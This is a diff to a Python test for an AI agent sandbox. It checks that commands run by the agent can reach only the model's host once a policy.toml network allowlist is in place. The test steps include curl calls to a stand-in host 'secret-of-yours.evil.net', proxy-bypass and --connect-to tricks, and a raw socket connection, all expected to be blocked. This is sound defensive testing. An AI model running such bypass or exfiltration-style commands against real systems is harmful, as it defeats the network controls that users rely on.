@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""--net allowlist with the model's host alone: a real agent talks to its model, and the commands that it runs reach nothing else."""
+"""The network is closed for commands ([network.commands]): a real agent talks to its model, and the commands that it runs reach nothing else."""
 import pathlib
 import shutil
 import sys
@@ -10,10 +10,11 @@ from authority import server_context
 from fake_model import FakeModel
 from internet import Internet
 from net_lab import listen_in
-from net_lab_names import INTERNET, MODEL
+from net_lab_names import MODEL
 from session import START_SECONDS, Scratch
 
 HOST = "model.test"
+POLICY = '[network]\nmode = "allowlist"\nallow = ["model.test"]\n[network.commands]\nallow = ["!*"]\n'
 DIRECT = "import socket; socket.create_connection(('93.184.216.34', 443), 5)"
 STEPS = [
     "curl -sS --max-time 20 -o /dev/null -w '%{http_code}' http://other.test/ 2>&1",
@@ -21,11 +22,12 @@ STEPS = [
     "curl -sS --max-time 20 --noproxy '*' --cacert authority.crt https://other.test/ 2>&1",
     "env -i PATH=$PATH curl -sS --max-time 20 https://secret-of-yours.evil.net/ 2>&1",
     f"python3 -c \"{DIRECT}\" 2>&1 | tail -1",
+    "curl -sS --max-time 20 https://github.com/ 2>&1",  # which the profile opens for commands, and the user has closed
     "git ls-remote https://git.test/git/shop.git 2>&1 | tail -1",
     f"curl -sS --max-time 20 -k --connect-to other.test:443:{HOST}:443 https://other.test/ 2>&1",
     "echo done > done.txt; cat done.txt",
 ]
-REFUSALS = ["403", "403", "resolve host", "resolve host", "unreachable", "403", "curl: ", "done"]
+REFUSALS = ["403", "403", "resolve host", "resolve host", "unreachable", "403", "403", "curl: ", "done"]
 
 
 class ModelOnly(unittest.TestCase):
@@ -50,7 +52,9 @@ class ModelOnly(unittest.TestCase):
             certificate = self.lab.give_certificate(scratch.project)
             # How each of the two is told of an authority of the user's own.
             trust = [word for name in ("NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE") for word in ("--env", f"{name}={certificate}")]
-            options = ["--name", "model-only", "--net", "allowlist", "--allow", HOST, *trust]
+            (scratch.home / ".config/agentctl").mkdir(parents=True)
+            (scratch.home / ".config/agentctl/policy.toml").write_text(POLICY)
+            options = ["--name", "model-only", *trust]
             session = scratch.start(options, scratch.agent.headless("\n".join(f"RUN: {step}" for step in STEPS)))
             try:
                 output, errors = session.communicate(timeout=2 * START_SECONDS)
